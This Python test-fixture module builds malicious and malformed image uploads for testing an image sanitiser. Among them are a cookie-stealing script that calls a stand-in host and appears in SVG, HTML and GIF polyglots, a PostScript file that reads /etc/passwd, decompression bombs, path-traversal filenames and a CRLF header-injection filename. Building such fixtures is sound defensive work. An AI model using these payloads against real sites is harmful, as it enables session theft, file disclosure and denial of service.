"""Files as an attacker, a broken phone or a strange camera may send them, all made here.

`REFUSED` must not be kept in any form; of `REDRAWN` the picture is kept, and nothing else that came with it.
"""

import io
import random
import struct
import zlib
from collections.abc import Callable

from PIL import Image, ImageDraw, PngImagePlugin

Made = tuple[str, bytes]  # the name that it is sent under, and its bytes
SCRIPT = b"<script>fetch('//elsewhere.invalid/'+document.cookie)</script>"
HEX = random.Random(18)


def unlike_any(length: int) -> bytes:
    """Text that stands nowhere else, so that each of its windows would be recognised."""
    return HEX.randbytes(length // 2).hex().encode()


PLACE, CAMERA, COMMENT, XMP, IPTC = (unlike_any(400) for _ in range(5))
HUGE = unlike_any(60_000)
METADATA = [PLACE, CAMERA, COMMENT, XMP, IPTC, HUGE, SCRIPT]


def picture(size: tuple[int, int] = (96, 64), mode: str = "RGB") -> Image.Image:
    """A picture with something in it."""
    image = Image.new("RGB", size, "olive")
    ImageDraw.Draw(image).ellipse((8, 8, size[0] // 2, size[1] // 2), fill="ivory")
    return image.convert(mode)


def written(image: Image.Image, kind: str, **values: object) -> bytes:
    """The picture as a file."""
    file = io.BytesIO()
    image.save(file, kind, **values)
    return file.getvalue()


def jpeg(**values: object) -> bytes:
    """A plain JPEG."""
    return written(picture(), "JPEG", **values)


def png(**values: object) -> bytes:
    """A plain PNG."""
    return written(picture(), "PNG", **values)


def webp(**values: object) -> bytes:
    """A plain WebP."""
    return written(picture(), "WEBP", **values)


def segment(marker: int, content: bytes) -> bytes:
    """A segment of a JPEG."""
    return bytes((0xFF, marker)) + struct.pack(">H", len(content) + 2) + content


def with_segments(*segments: bytes) -> bytes:
    """A JPEG with these segments behind its start."""
    plain = jpeg()
    return plain[:2] + b"".join(segments) + plain[2:]


def chunk(name: bytes, content: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def with_chunks(*chunks: bytes) -> bytes:
    """A PNG with these chunks behind its header, which takes 33 bytes."""
    plain = png()
    return plain[:33] + b"".join(chunks) + plain[33:]


def png_of(width: int, height: int, pixels: bytes) -> bytes:
    """A PNG of one bit a pixel whose header says this size."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG whose header says another size than it has."""
    plain = bytearray(jpeg())
    at = plain.index(b"\xff\xc0")
    plain[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(plain)


def webp_of(first: bytes, content: bytes) -> bytes:
    """A WebP whose first chunk says what it likes."""
    chunks = first + struct.pack("<I", len(content)) + content
    return b"RIFF" + struct.pack("<I", len(chunks) + 4) + b"WEBP" + chunks


def moving(kind: str) -> bytes:
    """Two pictures in one file."""
    frames = [Image.new("RGB", (32, 32), colour) for colour in ("red", "blue")]
    return written(frames[0], kind, save_all=True, append_images=frames[1:], duration=100)


def exif_with_place() -> Image.Exif:
    """Where and with what a picture was taken."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0110], exif[0x9286] = CAMERA.decode(), CAMERA.decode(), CAMERA.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 10.0, 3.0), 3: "E", 4: (5.0, 1.0, 2.0), 0x1D: PLACE.decode()})
    return exif


def text_chunk() -> PngImagePlugin.PngInfo:
    """Words in a PNG, packed and unpacked."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", COMMENT.decode())
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    return info


def brand(name: bytes) -> bytes:
    """The start of a file of ISO/IEC 14496-12."""
    return struct.pack(">I", 24) + b"ftyp" + name + b"\x00\x00\x00\x00" + name + b"mif1"[: 4 if name != b"mp42" else 0]


def many_scans() -> bytes:
    """A progressive JPEG that says its passes again and again."""
    plain = jpeg(progressive=True)
    start, end = plain.index(b"\xff\xda"), plain.rindex(b"\xff\xd9")
    return plain[:start] + (b"\xff" + plain[start:end]) * 200 + plain[end:]


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
ZEROS = zlib.compress(bytes(40 * 10**6), 9)
FLAT = zlib.compress(bytes((13_000 // 8 + 1) * 13_000), 9)

REFUSED: dict[str, Callable[[], Made]] = {
    "nothing": lambda: ("IMG.jpg", b""),
    "one byte": lambda: ("IMG.jpg", b"\xff"),
    "text": lambda: ("notes.txt", b"Ball too far up."),
    "SVG with a script": lambda: ("drawing.svg", SVG),
    "SVG named as JPEG": lambda: ("drawing.jpg", SVG),
    "web page named as JPEG": lambda: ("page.jpg", b"<!DOCTYPE html>" + SCRIPT),
    "GIF": lambda: ("one.gif", written(picture(), "GIF")),
    "GIF that moves": lambda: ("two.gif", moving("GIF")),
    "GIF that is a script": lambda: ("x.jpg", b"GIF89a/*" + bytes(8) + b"*/=1;" + SCRIPT),
    "GIF named as PNG": lambda: ("one.png", written(picture(), "GIF")),
    "PDF": lambda: ("sheet.pdf", b"%PDF-1.7\n" + SCRIPT),
    "PDF with a JPEG in it": lambda: ("sheet.jpg", b"%PDF-1.7\n" + jpeg()),
    "PostScript": lambda: ("x.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run"),
    "TIFF": lambda: ("x.tif", written(picture(), "TIFF")),
    "BMP": lambda: ("x.bmp", written(picture(), "BMP")),
    "TGA": lambda: ("x.tga", written(picture(), "TGA")),
    "icon": lambda: ("x.ico", written(picture((32, 32)), "ICO")),
    "HEIC": lambda: ("IMG_1.HEIC", brand(b"heic")),
    "AVIF": lambda: ("IMG_1.avif", brand(b"avif")),
    "film": lambda: ("clip.mp4", brand(b"mp42")),
    "ZIP": lambda: ("pictures.zip", b"PK\x03\x04" + bytes(60)),
    "program": lambda: ("x.jpg", b"\x7fELF" + bytes(100)),
    "PNG of 169 million pixels in a few bytes": lambda: ("x.png", png_of(13_000, 13_000, FLAT)),
    "PNG whose header says the most": lambda: ("x.png", png_of(2**31 - 1, 2**31 - 1, FLAT)),
    "PNG of no width": lambda: ("x.png", png_of(0, 10, FLAT)),
    "JPEG whose header says the most": lambda: ("x.jpg", jpeg_of(65_500, 65_500)),
    "WebP whose header says the most": lambda: ("x.webp", webp_of(b"VP8L", b"\x2f\xff\xff\xff\x0f" + bytes(40))),
    "WebP whose canvas is the largest": lambda: ("x.webp", webp_of(b"VP8X", bytes(4) + b"\xff\x3f\x00" * 2)),
    "PNG with a text of 40 MB": lambda: ("x.png", with_chunks(chunk(b"zTXt", b"Comment\0\0" + ZEROS))),
    "PNG with colours of 40 MB": lambda: ("x.png", with_chunks(chunk(b"iCCP", b"x\0\0" + ZEROS))),
    "JPEG of many passes": lambda: ("x.jpg", many_scans()),
    "JPEG cut off": lambda: ("x.jpg", jpeg()[:-300]),
    "PNG cut off": lambda: ("x.png", png()[:-60]),
    "WebP cut off": lambda: ("x.webp", webp()[:-60]),
    "PNG with a wrong check": lambda: ("x.png", png()[:29] + b"\0\0\0\0" + png()[33:]),
    "start of a JPEG, then a script": lambda: ("x.jpg", b"\xff\xd8\xff\xe0" + SCRIPT),
    "start of a PNG, then a script": lambda: ("x.png", b"\x89PNG\r\n\x1a\n" + SCRIPT),
    "start of a WebP, then a script": lambda: ("x.webp", b"RIFF\x40\0\0\0WEBP" + SCRIPT),
    "PNG that moves": lambda: ("x.png", moving("PNG")),
    "WebP that moves": lambda: ("x.webp", moving("WEBP")),
    "more than 12 MB": lambda: ("x.jpg", jpeg() + bytes(12 * 10**6)),
}

REDRAWN: dict[str, Callable[[], Made]] = {
    "place and camera": lambda: ("x.jpg", jpeg(exif=exif_with_place())),
    "place and camera in a PNG": lambda: ("x.png", png(exif=exif_with_place(), pnginfo=text_chunk())),
    "place and camera in a WebP": lambda: ("x.webp", webp(exif=exif_with_place(), xmp=XMP)),
    "comment": lambda: ("x.jpg", with_segments(segment(0xFE, COMMENT))),
    "XMP": lambda: ("x.jpg", with_segments(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + XMP))),
    "IPTC": lambda: ("x.jpg", with_segments(segment(0xED, b"Photoshop 3.0\08BIM\x04\x04" + IPTC))),
    "huge Exif": lambda: ("x.jpg", with_segments(*[segment(0xE1, b"Exif\0\0" + HUGE)] * 20)),
    "broken Exif": lambda: ("x.jpg", with_segments(segment(0xE1, b"Exif\0\0MM\0*\xff\xff\xff\xff" + PLACE))),
    "script in a comment": lambda: ("x.jpg", with_segments(segment(0xFE, SCRIPT))),
    "script behind the end": lambda: ("x.html", jpeg() + SCRIPT),
    "ZIP behind the end": lambda: ("x.zip", jpeg() + b"PK\x03\x04" + SCRIPT),
    "film behind the end": lambda: ("x.jpg", jpeg() + HEX.randbytes(9 * 10**6)),
    "script behind the end of a PNG": lambda: ("x.png", png() + SCRIPT),
    "colours of its own": lambda: ("x.png", with_chunks(chunk(b"iTXt", b"Comment\0\0\0\0\0" + COMMENT))),
    "PNG named as JPEG": lambda: ("x.jpg", png()),
    "no suffix": lambda: ("x", jpeg()),
    "a name that climbs": lambda: ("../../../etc/passwd.jpg", jpeg()),
    "a name of 255 letters": lambda: ("a" * 251 + ".jpg", jpeg()),
    "a name with a line of its own": lambda: ("x\r\nSet-Cookie: a=b.jpg", jpeg()),
    "CMYK": lambda: ("x.jpg", written(picture(mode="CMYK"), "JPEG")),
    "16 bits of grey": lambda: ("x.png", written(Image.new("I;16", (64, 48), 40_000), "PNG")),
    "palette": lambda: ("x.png", written(picture(mode="P"), "PNG", transparency=0)),
    "see-through": lambda: ("x.png", written(picture(mode="RGBA"), "PNG")),
    "see-through WebP": lambda: ("x.webp", written(picture(mode="RGBA"), "WEBP")),
    "grey": lambda: ("x.jpg", written(picture(mode="L"), "JPEG")),
    "progressive": lambda: ("x.jpg", jpeg(progressive=True)),
    "several in one JPEG": lambda: ("x.mpo", moving("MPO")),
    "one pixel": lambda: ("x.png", written(Image.new("RGB", (1, 1)), "PNG")),
    "a long line": lambda: ("x.png", written(Image.new("RGB", (1, 20_000)), "PNG")),
}
